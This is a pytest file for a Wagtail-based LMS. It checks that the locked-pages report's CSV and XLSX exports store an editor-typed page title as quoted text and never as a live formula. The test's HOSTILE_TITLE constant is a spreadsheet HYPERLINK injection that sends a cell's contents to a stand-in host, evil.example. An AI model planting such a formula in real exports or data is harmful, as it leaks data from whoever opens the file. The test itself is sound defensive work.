"""Wagtail's own reports export through lms.spreadsheets too: a page title an
editor typed is text in the file, never a formula, on a sheet named after the
report."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.factories import UserFactory

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&B3,"Course")'


def test_wagtails_locked_pages_report_exports_without_formulas(client, catalogue):
    admin = UserFactory(is_staff=True, is_superuser=True)
    catalogue.title = HOSTILE_TITLE
    catalogue.locked, catalogue.locked_by = True, admin
    catalogue.locked_at = datetime.datetime(2026, 7, 1, 10, 5, tzinfo=datetime.UTC)
    catalogue.save()
    client.force_login(admin)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    url = reverse("wagtailadmin_reports:locked_pages")

    text = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
    assert text.startswith("\ufeff")
    headings, *rows = csv.reader(io.StringIO(text[1:]))
    (row,) = [row for row in rows if "HYPERLINK" in row[0]]
    assert row[0] == "'" + HOSTILE_TITLE
    assert "2026-07-01 12:05" in row  # locked at, in Ljubljana's time

    workbook = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content))
    assert workbook.sheetnames == ["Locked pages"]
    (row,) = [
        row for row in workbook.active.iter_rows() if "HYPERLINK" in str(row[0].value)
    ]
    assert row[0].data_type == "s" and row[0].value == "'" + HOSTILE_TITLE
    local = timezone.make_naive(catalogue.locked_at, timezone.get_default_timezone())
    assert local == datetime.datetime(2026, 7, 1, 12, 5)
    assert local in [cell.value for cell in row]
